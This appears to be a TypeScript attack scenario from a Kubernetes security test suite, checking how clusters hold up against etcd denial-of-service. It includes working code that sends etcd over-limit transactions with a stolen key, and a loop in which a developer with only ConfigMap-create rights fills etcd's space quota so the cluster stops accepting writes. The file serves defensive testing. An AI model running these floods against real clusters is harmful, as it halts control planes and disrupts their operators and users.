/**
 * stolen etcd key  --129 puts in one transaction, 1.6 MiB in one put-->  etcd
 * a developer  --ConfigMap after ConfigMap-->  kube-apiserver  -->  etcd, until it takes no more from anybody
 */
import type { Loot, World } from '../../lib/attacker/world.ts'
import type { Operator } from '../../lib/cluster/operator.ts'
import { allowDeveloper, DEVELOPER, DEVELOPER_NAMESPACE } from '../../lib/scenario/developer.ts'
import { ETCD_THIEF, NOTHING_STOLEN } from '../../lib/scenario/etcd-thief.ts'
import type { Service } from '../../lib/scenario/goal.ts'
import { scenario, type Expectation, type Staged, type Variant } from '../../lib/scenario/scenario.ts'

const MIB = 1024 * 1024
const THROUGH: Expectation = { kind: 'through' }
const REFUSED: Expectation = { kind: 'stopped', by: 'etcd', layer: 'app', code: 'InvalidArgument' }
const [TOO_MUCH, AS_MUCH] = ['more than etcd takes at once', 'as much as etcd takes at once']

/** `--max-txn-ops` */
const MAX_TXN_OPS = 128
/** Twice what the small store takes. */
const CONFIG_MAPS = 10
const CONFIG_MAP_BYTES = 200_000
const HEARD_WITHIN_MS = 2000
const PAUSE_MS = 100

const AT_ONCE: Pick<Variant, 'foothold' | 'goal' | 'target' | 'expect' | 'twin'> = {
  foothold: ETCD_THIEF,
  goal: { write: 'records that came at once', placed: isAllThere },
  target: TOO_MUCH,
  expect: {
    open: NOTHING_STOLEN,
    encrypted: NOTHING_STOLEN,
    kubeadm: REFUSED,
    hardened: REFUSED,
    'zero-trust': REFUSED,
  },
  twin: { stopped: { target: AS_MUCH } },
}

export default scenario({
  title: 'Fill the store',
  story: `What comes at once is bounded by etcd itself, in every cluster: operations of a transaction, bytes of a request. What comes bit by bit
is not. A user who may create ConfigMaps creates them until the quota is reached, and from then on etcd takes nothing from anybody: no Lease
is renewed, no Pod is bound. The store is made small here, so that a run fills it in a second; two GiB only take longer.`,
  refs: [
    'etcd.io/docs/v3.6/op-guide/maintenance/#space-quota',
    'etcd --max-txn-ops, --max-request-bytes, --quota-backend-bytes',
    'kubernetes.io/docs/concepts/security/rbac-good-practices/#denial-of-service-via-object-creation',
  ],
  attack: ['T1499'],
  variants: [
    { id: 'txn-ops', title: 'more operations in a transaction than --max-txn-ops', ...AT_ONCE },
    { id: 'request-bytes', title: 'more bytes in a request than --max-request-bytes', ...AT_ONCE },
    {
      id: 'quota',
      title: 'a user with one right fills it',
      foothold: {
        name: 'a developer who may create ConfigMaps',
        stands: { on: 'net' },
        holds: { credential: { minted: { signedBy: 'ca', commonName: DEVELOPER, usages: ['clientAuth'] } } },
      },
      goal: { deny: 'an administrator whose object etcd has no room for', asked: createOne },
      premise: ['etcd-quota-backend-bytes'],
      expect: {
        open: THROUGH,
        encrypted: { notApplicable: 'kube-apiserver takes tokens alone there, and this user has a certificate' },
        kubeadm: THROUGH,
        hardened: THROUGH,
        'zero-trust': THROUGH,
      },
      twin: { through: { restore: 'etcd-quota-backend-bytes' } },
      // Who leads by a Lease that is not stored any more ends.
      ruins: { lastWords: /leaderelection lost/ },
    },
  ],
  async prepare(operator, goal) {
    if (goal.variant !== 'quota') return
    await allowDeveloper(operator, { name: 'fill', resources: ['configmaps'], verbs: ['create'] })
    operator.afterwards(() =>
      operator.store.deleteRange({ key: `/registry/configmaps/${DEVELOPER_NAMESPACE}/`, prefix: true }),
    )
  },
  async attempt(world, variant) {
    if (variant === 'quota') return fill(world)
    const etcd = await world.etcd(world.network.etcd[0] ?? '')
    const key = keyOf(world.goal)
    if (variant === 'request-bytes') await etcd.put(key, 'x'.repeat((world.target === TOO_MUCH ? 1.6 : 1) * MIB))
    else {
      const count = MAX_TXN_OPS + (world.target === TOO_MUCH ? 1 : 0)
      await etcd.putTogether(new Map(Array.from({ length: count }, (_, index) => [`${key}/${index}`, 'x'])))
    }
    return []
  },
})

function keyOf({ secret }: Pick<Staged, 'secret'>): string {
  return `/range/limits/${secret}`
}

async function isAllThere(operator: Operator, goal: Staged): Promise<boolean> {
  return (await operator.store.range({ key: keyOf(goal), prefix: true, countOnly: true })).count > 0n
}

async function fill(world: World): Promise<Loot> {
  for (let number = 0; number < CONFIG_MAPS; number += 1) {
    const { status } = await world.api({
      path: `/api/v1/namespaces/${DEVELOPER_NAMESPACE}/configmaps`,
      body: {
        apiVersion: 'v1',
        kind: 'ConfigMap',
        metadata: { name: `${world.goal.secret}-${number}` },
        data: { log: 'x'.repeat(CONFIG_MAP_BYTES) },
      },
    })
    if (status !== 201) break
  }
  return []
}

/**
 * Asks again for a while: that there is no room comes by way of the log, like everything that members agree on.
 *
 * @throws Error where it is refused for anything else than the room.
 */
async function createOne(operator: Operator, { namespace, secret: name }: Staged): Promise<Service | undefined> {
  const path = `/api/v1/namespaces/${namespace}/configmaps`
  const body = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name, namespace } }
  for (const end = performance.now() + HEARD_WITHIN_MS; performance.now() < end;) {
    const { status, text } = await operator.client.request({ method: 'POST', path, body })
    if (text.includes('database space exceeded')) return undefined
    if (status !== 201) throw new Error(`an administrator's ConfigMap: ${status} ${text}`)
    await operator.delete(`${path}/${name}`)
    await new Promise((resolve) => setTimeout(resolve, PAUSE_MS))
  }
  return { by: 'kube-apiserver', text: 'a ConfigMap of an administrator is stored' }
}
